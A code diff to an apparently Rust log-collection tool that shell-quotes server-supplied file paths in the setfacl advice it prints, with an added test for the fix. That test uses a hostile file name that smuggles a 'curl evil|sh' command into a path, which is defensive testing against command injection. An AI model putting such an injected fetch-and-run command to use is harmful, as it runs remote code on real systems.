@@ -541,7 +541,13 @@ async fn check_pattern(
 
 /// What to do about a file the account cannot read.
 fn unreadable_fix(host: &HostConfig, path: &str, denied: bool, owner: Option<&Owner>) -> String {
-    let (name, user, path) = (&host.name, &host.user, Shown(path));
+    // The path comes from the server: quoted for the shell, so that pasting the advice runs
+    // nothing a file name says.
+    let (name, user, path) = (
+        &host.name,
+        &host.user,
+        shell_quote(&Shown(path).to_string()),
+    );
     if !denied {
         return format!("check {path} on {name}");
     }
@@ -556,6 +562,24 @@ fn unreadable_fix(host: &HostConfig, path: &str, denied: bool, owner: Option<&Ow
             "on {name}, let {user} read it: `setfacl -m u:{user}:r {path}` (and the same for the \
              files logrotate creates), or make it group-readable by a group {user} is in"
         ),
+    }
+}
+
+/// `s` as one shell word: as is when it holds only characters no shell treats specially, else
+/// in single quotes.
+fn shell_quote(s: &str) -> String {
+    let plain = !s.is_empty()
+        && s.bytes().all(|b| {
+            b.is_ascii_alphanumeric()
+                || matches!(
+                    b,
+                    b'/' | b'.' | b'_' | b'-' | b'+' | b',' | b'@' | b':' | b'%' | b'='
+                )
+        });
+    if plain {
+        s.to_string()
+    } else {
+        format!("'{}'", s.replace('\'', "'\\''"))
     }
 }
 
@@ -929,6 +953,12 @@ mod tests {
         let fix = unreadable_fix(h, "/var/log/auth.log", true, Some(&private));
         assert!(
             fix.contains("setfacl -m u:logpull:r /var/log/auth.log"),
+            "{fix}"
+        );
+        // A hostile server's file name cannot make the advice run something.
+        let fix = unreadable_fix(h, "/var/log/x; curl evil|sh 'y'", true, None);
+        assert!(
+            fix.contains("setfacl -m u:logpull:r '/var/log/x; curl evil|sh '\\''y'\\'''"),
             "{fix}"
         );
     }
